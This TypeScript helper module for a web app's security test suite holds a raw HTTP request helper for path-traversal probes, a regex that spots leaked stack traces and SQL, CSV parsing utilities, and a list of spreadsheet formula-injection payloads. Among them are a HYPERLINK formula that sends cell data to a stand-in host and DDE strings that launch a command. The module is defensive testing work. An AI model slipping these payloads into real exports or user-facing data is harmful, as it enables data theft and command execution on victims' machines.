/** Small tools shared by the attack suite. */
import http from 'node:http';

export interface RawRes {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
}

/**
 * An HTTP request with the path sent byte for byte: fetch() folds '..' and '%2e%2e' segments
 * away before they reach the server, an attacker's client does not.
 */
export function rawRequest(
  baseUrl: string,
  path: string,
  options: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<RawRes> {
  const { hostname, port } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: hostname, port, path, method: options.method ?? 'GET', headers: options.headers },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

/** What an answer must never show: stack frames, SQL, driver error names, file paths. */
export const LEAK =
  /SequelizeDatabaseError|SQLITE_|ER_[A-Z_]{3,}|at [\w.<>]+ \(|\/work\/|\/tmp\/|node_modules|SELECT .* FROM|INSERT INTO|\.ts:\d+/;

/** The user-supplied strings a spreadsheet would run as formulas (OWASP's list). */
export const FORMULAS = [
  '=HYPERLINK("http://mal.example/?x="&A1,"clique")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** Every cell of a `;` CSV (quoted cells unquoted), for checking each one on its own. */
export function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';' || ch === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += ch;
  }
  if (cell) cells.push(cell);
  return cells.map((c) => c.replace(/^\uFEFF/, ''));
}

/** A cell a spreadsheet would evaluate: starts with = + - @, a tab or a carriage return. */
export const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/**
 * A stand-in for the built portal and sdk (the API projects run before `npm run build`): an
 * index.html, a hashed asset, a root file and an sdk bundle, inside `dir`.
 */
export async function fakeFrontends(dir: string): Promise<{ PORTAL_DIST: string; SDK_DIST: string }> {
  const { mkdir, writeFile } = await import('node:fs/promises');
  const { join } = await import('node:path');
  const portal = join(dir, 'portal-dist');
  const sdk = join(dir, 'sdk-dist');
  await mkdir(join(portal, 'assets'), { recursive: true });
  await mkdir(sdk, { recursive: true });
  await writeFile(
    join(portal, 'index.html'),
    '<!doctype html><html lang="pt-BR"><head><script type="module" crossorigin src="/assets/index-abc123.js"></script></head><body><div id="root"></div></body></html>',
  );
  await writeFile(join(portal, 'assets', 'index-abc123.js'), 'console.log("portal");');
  await writeFile(join(portal, 'favicon.svg'), '<svg xmlns="http://www.w3.org/2000/svg"></svg>');
  await writeFile(join(sdk, 'trilha.js'), 'var Trilha={};');
  return { PORTAL_DIST: portal, SDK_DIST: sdk };
}
